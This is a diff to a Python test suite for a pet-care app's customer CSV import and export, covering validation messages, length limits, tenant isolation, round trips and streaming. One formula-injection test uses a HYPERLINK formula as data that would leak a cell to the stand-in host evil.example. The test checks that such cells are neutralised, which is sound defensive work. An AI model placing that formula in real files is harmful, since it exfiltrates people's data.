@@ -1,7 +1,11 @@
 """CSV import (dry run, all-or-nothing) and export, which round-trips into another tenant."""
+import csv
+import io
+
 from app.core.extensions import db
 from app.models import Customer, Pet, Tenant, Vaccination
-from app.services.customer_csv import COLUMNS, export_csv, import_customers
+from app.services.customer_csv import COLUMNS, export_chunks, export_csv, import_customers, neutralise, restore
+from app.services.customers import create_customer
 from app.tenancy import tenant_context, unscoped
 
 HEADER = ",".join(COLUMNS)
@@ -63,7 +67,7 @@ def test_every_bad_row_is_reported_by_line_and_nothing_is_imported(app, tenant_a
         report = import_customers(text=bad, dry_run=False)
         assert not report.imported
         assert [(p.line, p.field) for p in report.problems] == [
-            (5, "first_name"), (6, "email"), (7, "species"), (8, "expires_on"), (9, "email")]
+            (5, "first_name"), (6, "email"), (7, "species"), (8, "vaccinations"), (9, "email")]
         assert _counts() == (0, 0, 0)
 
 
@@ -105,3 +109,197 @@ def test_the_cli_imports_and_reports(app, tenant_a, tmp_path):
     assert real.exit_code == 0 and "imported" in real.output
     again = runner.invoke(args=["import", "customers", str(path), "--tenant", tenant_a.subdomain])
     assert again.exit_code == 1 and "line 2: email" in again.output and "nothing imported" in again.output
+
+
+# --- messages that name the column and every problem of a row -------------------------------------
+
+
+def _problems(app, fx, text, dry_run=True):
+    with app.app_context(), tenant_context(_tenant(app, fx)):
+        report = import_customers(text=text, dry_run=dry_run)
+        return {(p.line, p.field): p.message for p in report.problems}, _counts()
+
+
+def test_a_day_first_date_names_the_column_and_the_expected_format(app, tenant_a):
+    text = HEADER + "\n" + _row(first_name="Al", last_name="Ames", pet_name="Rex", species="DOG",
+                                birth_date="31/12/2020") + "\n"
+    problems, _ = _problems(app, tenant_a, text)
+    assert list(problems) == [(2, "birth_date")]
+    assert "YYYY-MM-DD" in problems[2, "birth_date"] and "31/12/2020" in problems[2, "birth_date"]
+    assert "isoformat" not in problems[2, "birth_date"]
+
+
+def test_a_weight_that_is_not_a_number_says_so(app, tenant_a):
+    text = HEADER + "\n" + _row(first_name="Al", last_name="Ames", pet_name="Rex", species="DOG",
+                                weight_lbs="heavy") + "\n"
+    problems, _ = _problems(app, tenant_a, text)
+    assert problems == {(2, "weight_lbs"): "Must be a number of pounds, e.g. 42.5."}
+
+
+def test_every_problem_of_a_row_is_listed(app, tenant_a, tenant_b):
+    text = HEADER + "\n" + _row(first_name=" ", last_name="Ames", email="nope", active="maybe",
+                                preferred_contact="PIGEON", pet_name="Rex", species="DRAGON", sex="X",
+                                birth_date="2020/01/01", weight_lbs="heavy", neutered="perhaps",
+                                vaccinations="Rabies|01-05-2026|2029-01-05; Plague|2026-01-05|2027-01-05") + "\n"
+    problems, counts = _problems(app, tenant_a, text, dry_run=False)
+    assert set(problems) == {(2, c) for c in ("first_name", "email", "active", "preferred_contact", "species", "sex",
+                                               "birth_date", "weight_lbs", "neutered", "vaccinations")}
+    assert "Rabies: Use a date as YYYY-MM-DD" in problems[2, "vaccinations"]
+    assert "Plague: Unknown vaccine" in problems[2, "vaccinations"]
+    assert counts == (0, 0, 0)
+    assert _problems(app, tenant_b, GOOD)[0] == {}  # the other tenant's good file is unaffected
+
+
+# --- the dry run and the real import never disagree ------------------------------------------------
+
+
+LONG_CITY = HEADER + "\n" + _row(first_name="Al", last_name="Ames", email="al@example.com", phone="5551234567",
+                                 city="x" * 300) + "\n"
+
+
+def test_a_300_character_city_fails_the_dry_run_and_the_real_import_alike(app, tenant_a, tenant_b, captured_logs):
+    dry, _ = _problems(app, tenant_a, LONG_CITY, dry_run=True)
+    real, counts = _problems(app, tenant_a, LONG_CITY, dry_run=False)
+    assert dry == real == {(2, "city"): "At most 100 characters."}
+    assert counts == (0, 0, 0)
+    assert _problems(app, tenant_b, GOOD, dry_run=True)[0] == {}
+
+
+def test_every_column_is_held_to_its_length(app, tenant_a):
+    limits = {"first_name": 100, "last_name": 100, "address_line1": 200, "address_line2": 200, "city": 100,
+              "region": 100, "postal_code": 20, "emergency_name": 200, "emergency_relationship": 100,
+              "pet_name": 100, "breed": 100, "colour": 100, "microchip": 40, "vet_name": 200,
+              "notes": 10_000, "feeding_instructions": 10_000, "allergies": 10_000, "behaviour_notes": 10_000}
+    base = {"first_name": "Al", "last_name": "Ames", "pet_name": "Rex", "species": "DOG"}
+    for column, limit in limits.items():
+        fits = HEADER + "\n" + _row(**{**base, column: "y" * limit}) + "\n"
+        assert _problems(app, tenant_a, fits)[0] == {}, column
+        too_long = HEADER + "\n" + _row(**{**base, column: "y" * (limit + 1)}) + "\n"
+        assert list(_problems(app, tenant_a, too_long)[0]) == [(2, column)], column
+
+
+def test_nul_bytes_and_lone_surrogates_are_refused_by_column_in_both_runs(app, tenant_a):
+    text = HEADER + "\n" + _row(first_name="Al", last_name="Am\x00es", pet_name="Rex", species="DOG",
+                                breed="Lab\ud800") + "\n"
+    dry, _ = _problems(app, tenant_a, text, dry_run=True)
+    real, counts = _problems(app, tenant_a, text, dry_run=False)
+    assert set(dry) == set(real) == {(2, "last_name"), (2, "breed")} and counts == (0, 0, 0)
+    assert "cannot be stored" in dry[2, "breed"]
+
+
+def test_the_vaccine_list_is_read_once_per_import(app, tenant_a, monkeypatch):
+    from app.services import compliance
+
+    calls = []
+    real = compliance.requirement_map
+    monkeypatch.setattr(compliance, "requirement_map", lambda: calls.append(1) or real())
+    rows = [_row(customer_ref=f"h{n}", first_name="Al", last_name=f"Ames{n}", pet_name="Rex", species="DOG",
+                 vaccinations="Rabies|2026-01-05|2029-01-05; DHPP|2026-01-05|2027-01-05") for n in range(40)]
+    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
+        report = import_customers(text=HEADER + "\n" + "\n".join(rows) + "\n", dry_run=False)
+        assert report.imported and report.vaccinations == 80
+    assert len(calls) == 1
+
+
+# --- round trips, compared with the source rows -----------------------------------------------------
+
+
+SOURCE = [  # every column filled, in the export's own canonical form, so nothing dropped can hide
+    {"first_name": "Jane", "last_name": "Doe", "email": "jane@example.com", "phone": "+15551234567",
+     "alt_phone": "+15559876543", "address_line1": "12 Elm St", "address_line2": "Apt 3", "city": "Denver",
+     "region": "CO", "postal_code": "80202", "emergency_name": "John Doe", "emergency_phone": "+15550001111",
+     "emergency_relationship": "Spouse", "preferred_contact": "SMS", "notes": "Gate code 1234",
+     "tags": "late-pickup; vip", "active": "true", "pet_name": "Rex", "species": "DOG", "breed": "Labrador",
+     "sex": "MALE", "birth_date": "2019-04-01", "weight_lbs": "60.50", "neutered": "true", "colour": "Black",
+     "microchip": "985112003456789", "feeding_instructions": "2 cups twice daily", "allergies": "Chicken",
+     "behaviour_notes": "Loves balls", "vet_name": "Dr Vet", "vet_phone": "+15552223333",
+     "alert_flags": "ESCAPE_RISK; MEDICATION", "medications": "Apoquel|16 mg|daily",
+     "vaccinations": "Rabies|2026-01-05|2029-01-05"},
+    {"first_name": "=Bob", "last_name": "-Smith", "email": "bob@example.co.uk", "phone": "+442079460000",
+     "preferred_contact": "EMAIL", "active": "false", "notes": "@home; +1 call first", "pet_name": "'Tom",
+     "species": "CAT", "sex": "FEMALE", "neutered": "false", "breed": "+Siamese"},
+]
+
+
+def _source_csv() -> str:
+    out = io.StringIO()
+    writer = csv.DictWriter(out, fieldnames=COLUMNS)
+    writer.writeheader()
+    for n, row in enumerate(SOURCE):
+        writer.writerow({c: neutralise(row.get(c, "")) for c in COLUMNS} | {"customer_ref": f"r{n}"})
+    return out.getvalue()
+
+
+def _exported_rows() -> list[dict[str, str]]:
+    rows = list(csv.DictReader(io.StringIO(export_csv())))
+    return sorted(({c: restore(v) for c, v in row.items() if c != "customer_ref"} for row in rows),
+                  key=lambda r: r["last_name"])
+
+
+def _expected_rows() -> list[dict[str, str]]:
+    blank = {c: "" for c in COLUMNS if c != "customer_ref"}
+    defaults = {"preferred_contact": "EMAIL", "active": "true", "sex": "UNKNOWN", "neutered": "false"}
+    return sorted(({**blank, **defaults, **row} for row in SOURCE), key=lambda r: r["last_name"])
+
+
+def test_every_source_column_survives_the_import(app, tenant_a, tenant_b):
+    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
+        report = import_customers(text=_source_csv(), dry_run=False)
+        assert report.imported, report.problems
+        assert _exported_rows() == _expected_rows()
+        rex = db.session.execute(db.select(Pet).where(Pet.name == "Rex")).scalar_one()
+        assert (rex.breed, str(rex.weight_lbs), rex.colour) == ("Labrador", "60.50", "Black")
+    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
+        assert _counts() == (0, 0, 0) and _exported_rows() == []
+
+
+def test_a_plus_44_phone_and_a_name_starting_with_equals_round_trip_into_another_tenant(app, tenant_a, tenant_b):
+    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
+        assert import_customers(text=_source_csv(), dry_run=False).imported
+        exported = export_csv()
+    assert "'=Bob" in exported and "'+442079460000" in exported and "'-Smith" in exported
+    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
+        report = import_customers(text=exported, dry_run=False)
+        assert report.imported, report.problems
+        bob = db.session.execute(db.select(Customer).where(Customer.email == "bob@example.co.uk")).scalar_one()
+        assert (bob.first_name, bob.last_name, bob.phone) == ("=Bob", "-Smith", "+442079460000")
+        assert _exported_rows() == _expected_rows()
+
+
+# --- formula injection -------------------------------------------------------------------------------
+
+
+def test_cells_that_a_spreadsheet_would_run_are_neutralised_in_the_export(app, tenant_a, tenant_b):
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
+    names = [evil, "+1+1", "-2+3", "@SUM(A1:A2)", "'=quoted", "Plain", "O'Brien"]
+    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
+        for n, name in enumerate(names):
+            create_customer(first_name=name, last_name=f"L{n}")
+        create_customer(first_name="Tab", last_name="Cr", address_line1="\t=1+1", city="\rcmd", notes="=1+1")
+        rows = list(csv.DictReader(io.StringIO(export_csv())))
+    assert sorted(r["first_name"] for r in rows) == sorted(
+        ["'" + evil, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "''=quoted", "Plain", "O'Brien", "Tab"])
+    tab = next(r for r in rows if r["first_name"] == "Tab")
+    assert (tab["address_line1"], tab["city"], tab["notes"]) == ("'\t=1+1", "'\rcmd", "'=1+1")
+    assert not any(v[:1] in "=+-@\t\r" for r in rows for v in r.values() if v)
+    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
+        assert export_csv().count("\n") == 1  # header only: nothing of A's
+
+
+def test_neutralise_and_restore_are_inverse_on_awkward_values():
+    for value in ("", "'", "''", "'x", "'=x", "=x", "+44", "-", "@", "\t", "x=y", "''=x", "O'Brien"):
+        assert restore(neutralise(value)) == value, value
+        assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r") or value == "", value
+
+
+# --- the export streams ----------------------------------------------------------------------------
+
+
+def test_the_export_is_produced_in_chunks_not_as_one_document(app, tenant_a):
+    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
+        for n in range(5):
+            create_customer(first_name="Al", last_name=f"Ames{n}")
+        chunks = export_chunks(rows_per_chunk=2)
+        assert not isinstance(chunks, (str, list))
+        parts = list(chunks)
+    assert len(parts) == 3 and "".join(parts).count("\n") == 6
